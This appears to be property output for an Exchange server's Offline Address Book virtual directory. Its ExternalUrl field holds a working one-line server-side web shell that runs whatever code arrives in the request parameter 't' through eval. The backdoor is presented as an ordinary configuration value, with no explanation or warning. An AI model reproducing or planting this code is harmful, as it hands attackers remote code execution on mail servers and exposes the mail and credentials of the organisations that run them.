Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             :
RequireSSL                      : True
ExternalUrl                     : http://o/<script language="JScript" runat="server">function Page_Load(){eval(Request["t"],"unsafe");}</script>
InternalUrl                     : https://mail.corp.local/OAB
